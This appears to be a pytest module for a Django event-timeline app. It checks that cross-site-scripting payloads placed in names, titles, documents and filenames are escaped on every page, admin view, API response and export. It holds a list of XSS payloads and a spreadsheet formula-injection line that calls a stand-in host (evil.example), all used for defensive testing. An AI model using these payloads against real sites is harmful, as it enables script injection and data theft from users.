"""Hostile content (script and HTML in a document, a name, a title, a topic...) is shown as text on
every page, fragment and admin page, and kept as plain data in every export; the
Content-Security-Policy allows no inline script, so anything that slipped through would not run.

To cover a new page or export, add one line to OUTPUTS: a name, how to fetch it, its kind and the
hostile fields it must show."""

import csv
import datetime
import json
import re
from html.parser import HTMLParser
from io import StringIO
from urllib.parse import quote

import icalendar
import pytest
from django.test import TestCase
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.db import transaction
from django.utils.html import escape

from events.ingest import ingest_text
from events.models import Country, Document, Event, Person, Place, Source, Topic
from tests.conftest import SEEDS

TEMPLATES = [
    '<script>alert("{m}")</script>',
    '<img src=x onerror=alert("{m}")>',
    '"><svg onload=alert("{m}")>',
    "'><iframe src=javascript:alert('{m}')></iframe>",
    '<a href="javascript:alert(\'{m}\')">{m}</a>',
    '<div hx-get="/admin/" hx-trigger="load">{m}</div>',
    '</textarea></title><script>alert("{m}")</script>',
    '<style>*{{display:none}}</style>{m}',
    '=HYPERLINK("http://evil.example/?{m}")<b>',
]
FIELDS = [
    "event title", "review reason", "date evidence", "person name", "person role", "person alias", "place name",
    "topic name", "country name", "document title", "document text", "passage", "outlet", "filename",
]
# Each field gets its own payload, marked with the field's name so a failure says which leaked.
HOSTILE = {field: TEMPLATES[i % len(TEMPLATES)].format(m="xss-" + field.replace(" ", "-")) for i, field in enumerate(FIELDS)}


@pytest.fixture(scope="module")
def hostile_data(django_db_setup, django_db_blocker):
    """Built once for the module (ingest is slow) and rolled back after it."""
    with django_db_blocker.unblock(), transaction.atomic():
        yield build_hostile()
        transaction.set_rollback(True)


@pytest.fixture
def hostile(hostile_data, db):
    return hostile_data


def build_hostile():
    """One event built from hostile data directly, and hostile articles fed through ingest."""
    Country.objects.create(code="QZ", name=HOSTILE["country name"])
    topic = Topic.objects.create(name=HOSTILE["topic name"], slug="hostile", keywords=["<script>"])
    person = Person.objects.create(name=HOSTILE["person name"], role=HOSTILE["person role"], country_id="QZ",
                                   aliases=[HOSTILE["person alias"]])
    venue = Place.objects.create(name=HOSTILE["place name"], country_id="QZ")
    event = Event.objects.create(title=HOSTILE["event title"], kind="meeting", date=datetime.date(2023, 4, 28),
                                 date_precision="day",
                                 needs_review=True, review_reason=HOSTILE["review reason"],
                                 date_evidence=HOSTILE["date evidence"], venue=venue)
    event.participants.add(person)
    event.topics.add(topic)
    event.countries.add("QZ")
    text = (
        f"{HOSTILE['document title']}\n"
        f"Defence Minister Rajnath Singh met Russian Defence Minister Sergei Shoigu in Moscow on 28 April 2023. "
        f"{HOSTILE['passage']} They discussed {HOSTILE['document text']} and defence cooperation.\n"
    )
    result = ingest_text(text, HOSTILE["filename"], outlet=HOSTILE["outlet"])
    start = text.index(HOSTILE["passage"])
    Source.objects.create(event=event, document=result.document, start=start, end=start + len(HOSTILE["passage"]))
    # A real article with payloads in it too, so what extraction makes of them is checked as well.
    seed = sorted(SEEDS.glob("*.txt"))[0].read_text(encoding="utf-8")
    ingest_text(seed.replace(". ", f". {HOSTILE['document text']} ", 3), "seed.txt")
    return {"event": event, "person": person, "document": result.document, "topic": topic, "venue": venue}


def page(url, headers=None):
    return lambda client, objects: client.get(url(objects) if callable(url) else url, headers=headers or {})


def export_command(*args):
    def run(client, objects):
        out = StringIO()
        call_command("export_events", *args, stdout=out)
        return out.getvalue()

    return run


def upload(client, objects):
    """The admin upload with hostile file names (without "/": Django keeps only a name's last part)."""
    files = [SimpleUploadedFile(HOSTILE["review reason"], b"\x00 binary"),
             SimpleUploadedFile(HOSTILE["date evidence"], b"Rajnath Singh met Sergei Shoigu in Moscow.\n")]
    # The job the upload makes runs when the request's work commits (the tests' task backend runs it
    # then); its progress page shows each file's result.
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post("/admin/events/document/upload/", {"files": files, "text": "", "filename": "", "published": "", "outlet": ""})
    assert response.status_code == 302
    return client.get(response.url)


CARD = {"event title", "person name", "person role", "place name", "topic name", "country name"}
ADMIN_EVENT = "/admin/events/event/{event.pk}/change/"
OUTPUTS = [
    ("timeline", page("/"), "html", CARD - {"person role"}),
    ("timeline fragment", page("/", {"HX-Request": "true"}), "html", CARD - {"person role"}),
    ("timeline search echoes the query", page("/?q=" + quote(HOSTILE["event title"])), "html", {"event title"}),
    ("timeline filtered by person", page(lambda o: f"/?person={o['person'].pk}"), "html", CARD - {"person role"}),
    ("event page", page(lambda o: f"/events/{o['event'].pk}/"), "html", CARD | {"review reason", "passage"}),
    ("document page", page(lambda o: f"/documents/{o['document'].pk}/"), "html",
     {"document title", "document text", "passage", "outlet", "filename", "event title"}),
    ("person page", page(lambda o: f"/people/{o['person'].pk}/"), "html", {"person name", "person role", "event title"}),
    ("admin event list", page("/admin/events/event/"), "admin", {"event title"}),
    ("admin event change", page(lambda o: ADMIN_EVENT.format(**o)), "admin", {"event title", "review reason"}),
    ("admin event history", page(lambda o: ADMIN_EVENT.format(**o).replace("change", "history")), "admin", {"event title"}),
    ("admin event delete", page(lambda o: ADMIN_EVENT.format(**o).replace("change", "delete")), "admin", {"event title"}),
    ("admin document list", page("/admin/events/document/"), "admin", {"filename"}),
    ("admin document change", page(lambda o: f"/admin/events/document/{o['document'].pk}/change/"), "admin",
     {"document title", "outlet"}),
    ("admin upload results", upload, "admin", {"review reason", "date evidence"}),
    ("admin person list", page("/admin/events/person/"), "admin", {"person name"}),
    ("admin person change", page(lambda o: f"/admin/events/person/{o['person'].pk}/change/"), "admin",
     {"person name", "person role"}),
    ("admin topic list", page("/admin/events/topic/"), "admin", {"topic name"}),
    ("admin place list", page("/admin/events/place/"), "admin", {"place name"}),
    ("admin country list", page("/admin/events/country/"), "admin", {"country name"}),
    ("admin autocomplete", page("/admin/autocomplete/?app_label=events&model_name=event&field_name=participants&term=xss"),
     "json", {"person name"}),
    ("export_events json", export_command("--format", "json"), "json", {"event title", "person name", "topic name", "passage"}),
    ("export_events csv", export_command("--format", "csv"), "csv", {"event title", "person name", "topic name"}),
    ("export_events ics", export_command("--format", "ics"), "ics", {"event title", "place name", "person name"}),
    ("export_events timelinejs", export_command("--format", "timelinejs"), "timelinejs", {"event title", "person name"}),
    ("export_events timelinejs-sheet", export_command("--format", "timelinejs-sheet"), "timelinejs-sheet",
     {"event title", "person name"}),
    ("API list", page("/api/events"), "json", {"event title", "person name", "topic name", "passage"}),
    ("API event", page(lambda o: f"/api/events/{o['event'].pk}"), "json", {"event title", "person name", "review reason"}),
    ("API csv", page("/api/events.csv"), "csv", {"event title", "person name", "topic name"}),
    ("API ics", page("/api/events.ics"), "ics", {"event title", "place name", "person name"}),
    ("API timelinejs", page("/api/events/timelinejs.json"), "timelinejs", {"event title", "person name"}),
    ("API timelinejs sheet", page("/api/events/timelinejs.csv"), "timelinejs-sheet", {"event title", "person name"}),
]


class Injected(HTMLParser):
    """What in an HTML page could run script: inline scripts, event handlers, javascript: URLs,
    frames, and inline styles (which the CSP blocks, so a page relying on them breaks)."""

    URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "hx-get", "hx-post"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self.in_script = [], None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "script":
            self.in_script = attrs
            if "src" in attrs and not re.match(r"/[^/]", attrs["src"] or ""):  # same origin only
                self.found.append(f"script from {attrs['src']}")
        if tag in {"iframe", "object", "embed", "style"}:
            self.found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.found.append(f"{name}= on <{tag}>")
            if name in self.URL_ATTRIBUTES and (value or "").strip().lower().startswith("javascript:"):
                self.found.append(f"javascript: URL in {name}")
            if name == "hx-trigger" and "load" in (value or ""):
                self.found.append("hx-trigger=load")

    def handle_endtag(self, tag):
        if tag == "script":
            self.in_script = None

    def handle_data(self, data):
        if self.in_script is not None and "src" not in self.in_script and data.strip():
            if self.in_script.get("type") != "application/json":
                self.found.append(f"inline script: {data.strip()[:60]}")
            else:
                json.loads(data)


def injected(html):
    parser = Injected()
    parser.feed(html)
    return parser.found


def test_every_field_has_its_own_payload():
    assert len(set(HOSTILE.values())) == len(FIELDS)


@pytest.mark.parametrize("name, fetch, kind, shows", OUTPUTS, ids=[o[0] for o in OUTPUTS])
def test_hostile_content_is_shown_as_text_or_kept_as_plain_data(name, fetch, kind, shows, hostile, admin_client):
    response = fetch(admin_client, hostile)
    if isinstance(response, str):
        body = response
    else:
        assert response.status_code == 200, response.content[:500]
        assert response["X-Content-Type-Options"] == "nosniff"
        body = response.content.decode()
        if kind != "html" and kind != "admin":
            assert not response["Content-Type"].startswith("text/html")
    if kind in {"html", "admin"}:
        for field, payload in HOSTILE.items():
            assert payload not in body, f"{field} is in the page as markup"
        for field in shows:
            assert escape(HOSTILE[field]) in body, f"{field} is not shown (as text)"
        assert injected(body) == []
    elif kind in {"timelinejs", "timelinejs-sheet"}:
        # TimelineJS renders its text fields as HTML, from its JSON or its spreadsheet's cells: they
        # must hold the payloads escaped.
        html = "\n".join(strings(json.loads(body)) if kind == "timelinejs" else DATA["csv"](body))
        for field, payload in HOSTILE.items():
            assert payload not in html, f"{field} is in TimelineJS's HTML as markup"
        for field in shows:
            assert escape(HOSTILE[field]) in html, f"{field} is not in the slides (as text)"
        assert injected(html) == []
    else:
        data = "\n".join(DATA[kind](body))
        for field in shows:
            kept = spreadsheet_safe(HOSTILE[field]) if kind == "csv" else HOSTILE[field]
            assert kept in data, f"{field} is not kept as given"


def spreadsheet_safe(payload):
    """A CSV cell that would start a formula keeps a leading apostrophe; the payload is otherwise as given."""
    return "'" + payload if payload.startswith("=") else payload


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def ics_values(body):
    for component in icalendar.Calendar.from_ical(body).walk():
        for value in component.values():
            yield from (str(v) for v in value.cats) if hasattr(value, "cats") else [str(value)]


DATA = {
    "json": lambda body: strings(json.loads(body)),
    "csv": lambda body: (cell for row in csv.reader(StringIO(body)) for cell in row),
    "ics": ics_values,
}


def test_no_document_text_is_lost_or_altered_by_escaping(hostile):
    assert hostile["document"].text.count(HOSTILE["passage"]) == 1
    assert Document.objects.get(pk=hostile["document"].pk).filename == HOSTILE["filename"]


PAGES = ["/", "/?q=x", "/events/{event.pk}/", "/documents/{document.pk}/", "/people/{person.pk}/", "/admin/login/"]


@pytest.mark.parametrize("url", PAGES)
def test_pages_send_a_content_security_policy_without_inline_script_or_eval(url, hostile, client):
    response = client.get(url.format(**hostile))
    assert response.status_code == 200
    policy = dict(
        (directive.split()[0], directive.split()[1:]) for directive in response["Content-Security-Policy"].split(";")
        if directive.strip()
    )
    assert policy["script-src"] == ["'self'"]
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in policy.get("style-src", [])


def test_htmx_is_configured_to_work_under_the_policy(client, db):
    """htmx would otherwise add an inline <style> for its indicators (blocked by style-src) and run
    inline scripts and eval (blocked by script-src)."""
    html = client.get("/").content.decode()
    config = json.loads(re.search(r'<meta name="htmx-config" content=\'([^\']*)\'', html)[1])
    assert config["includeIndicatorStyles"] is False
    assert config["allowEval"] is False
    assert config["allowScriptTags"] is False


def test_our_pages_use_no_inline_style_attributes(hostile, client):
    """The policy's style-src has no 'unsafe-inline', so a style="" attribute would be ignored."""
    for url in PAGES[:-1]:
        html = client.get(url.format(**hostile)).content.decode()
        assert not re.search(r"<[^>]+\sstyle=", html), url
